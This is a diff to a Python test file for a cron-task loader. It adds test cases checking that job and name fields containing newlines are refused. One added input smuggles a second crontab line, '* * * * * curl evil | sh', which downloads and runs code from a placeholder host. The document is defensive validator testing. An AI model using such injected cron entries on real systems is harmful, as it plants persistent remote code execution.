@@ -114,6 +114,8 @@ def test_an_entry_another_tool_wrote_is_kept_and_absent_removes_only_ours(lab, t
     ("{name: x, job: y, minute: 'a;b'}", "not a crontab field"),
     ("{name: x, job: y, special_time: sometimes}", "use one of"),
     ("{name: 'A B', job: y, env: true}", "not a variable name"),
+    ('{name: x, job: "true\\n* * * * * curl evil | sh"}', "must be one line"),
+    ('{name: "x\\n* * * * * evil", job: "true"}', "must be one line"),
 ])
 def test_bad_cron_arguments_are_refused_at_load(tmp_path, args, message):
     task = write_task(tmp_path, f"name: bad\nsteps:\n  - cron: {args}\n")
